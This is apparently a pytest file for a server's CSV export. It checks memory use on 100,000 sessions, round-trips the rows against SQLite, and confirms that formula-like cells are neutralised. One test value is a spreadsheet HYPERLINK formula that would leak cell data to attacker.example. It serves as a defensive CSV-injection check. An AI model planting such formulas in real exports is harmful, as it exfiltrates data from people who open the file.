"""The CSV export, black-box (SPEC §5.7): 100,000 generated sessions exported through
`GET /admin/export.csv` by the real binary, with the server's peak resident memory under
64 MiB; Python's `csv` module reads the file back to the rows the database holds; a notes
cell `=HYPERLINK(...)` comes out neutralised.

Needs SENSEI_BIN (the debug binary is fine). Set SENSEI_EXPORT_SESSIONS to export fewer
sessions while developing; the acceptance figure is the default, 100,000.
"""

import csv
import os
import sqlite3
import time

from sensei_server import Server, run_cli

SESSIONS = int(os.environ.get("SENSEI_EXPORT_SESSIONS", "100000"))
INSTRUCTOR = "sensei@example.com"
PEAK_RSS_LIMIT_KIB = 64 * 1024
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
STUDENT_NOTES = 'Line one, with a comma\nand "quotes" on line two'
HEADER = [
    "id", "scheduled_at", "state", "reason", "student_id", "student_email", "submission_id",
    "challenge_id", "challenge_name", "goals_passed", "goals_engaged", "total_goals",
    "claimed_by_email", "claim_expires_at", "completed_at", "completed_by_id", "notes",
    "student_notes", "cancelled_at", "cancel_reason",
]


def neutralised(cell):
    """The export's rule, restated: a cell starting like a formula gets a leading quote."""
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def expected_rows(database):
    """What the export should hold, read straight from the SQLite file, in its order."""
    conn = sqlite3.connect("file:%s?mode=ro" % database, uri=True)
    try:
        return [
            [str(row[0]), str(row[1]), row[2], str(row[3]), str(row[4]), row[5],
             str(row[6]), str(row[7]), str(row[8]), neutralised(row[9] or ""),
             neutralised(row[10] or "")]
            for row in conn.execute(
                "SELECT s.id, s.user_id, u.email, s.submission_id, sub.challenge_id, c.name, "
                "s.goals_passed, s.goals_engaged, s.total_goals, s.notes, s.student_notes "
                "FROM scheduled_sessions s "
                "JOIN users u ON u.id = s.user_id "
                "JOIN submissions sub ON sub.id = s.submission_id "
                "JOIN challenges c ON c.id = sub.challenge_id "
                "ORDER BY s.scheduled_at, s.id"
            )
        ]
    finally:
        conn.close()


def comparable(row):
    """The CSV row's cells that `expected_rows` reads from the database."""
    return [row[0], row[4], row[5], row[6], row[7], row[8], row[9], row[10], row[11],
            row[16], row[17]]


def test_100k_sessions_export_in_flat_memory_and_read_back_exactly(tmp_path):
    database = str(tmp_path / "export.sqlite3")
    url = "sqlite://" + database
    run_cli(["generate", "--database-url", url, "--sessions", str(SESSIONS), "--quiet"],
            timeout=600)
    server = Server(["--database-url", url], str(tmp_path / "server.log"))
    try:
        cookie = server.sign_in(INSTRUCTOR)
        # One pending session completed with a formula as notes, through the API.
        status, page = server.api("GET", "/scheduled-sessions?status=pending&limit=1", cookie)
        assert status == 200, page
        target = page["items"][0]["id"]
        status, body = server.api(
            "POST", "/scheduled-sessions/%d/completion" % target, cookie,
            {"notes": FORMULA, "student_notes": STUDENT_NOTES},
        )
        assert status == 200, body

        before_kib = server.status_kib("VmHWM")
        export = tmp_path / "export.csv"
        started = time.monotonic()
        conn = server.connection(timeout=300)
        conn.request("GET", "/admin/export.csv", headers={"Cookie": cookie})
        response = conn.getresponse()
        assert response.status == 200, response.read()[:500]
        assert response.getheader("Content-Type") == "text/csv; charset=utf-8"
        assert response.getheader("Content-Disposition").startswith("attachment; filename=")
        with open(export, "wb") as out:
            while True:
                chunk = response.read(64 * 1024)
                if not chunk:
                    break
                out.write(chunk)
        conn.close()
        took = time.monotonic() - started
        peak_kib = server.status_kib("VmHWM")
        print("export of %d sessions: %.1f MiB in %.1f s; server VmHWM before %.1f MiB, "
              "after %.1f MiB" % (SESSIONS, os.path.getsize(export) / 2**20, took,
                                  before_kib / 1024, peak_kib / 1024))
        assert peak_kib < PEAK_RSS_LIMIT_KIB, "peak RSS %d KiB" % peak_kib
    finally:
        server.stop()

    with open(export, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f, strict=True))
    assert rows[0] == HEADER
    body = rows[1:]
    assert len(body) == SESSIONS
    assert all(len(row) == len(HEADER) for row in body)
    assert [comparable(row) for row in body] == expected_rows(database)

    by_id = {row[0]: row for row in body}
    completed = by_id[str(target)]
    assert completed[2] == "completed"
    assert completed[16] == "'" + FORMULA
    assert completed[17] == STUDENT_NOTES
    # No cell anywhere starts like a formula.
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in body for cell in row)
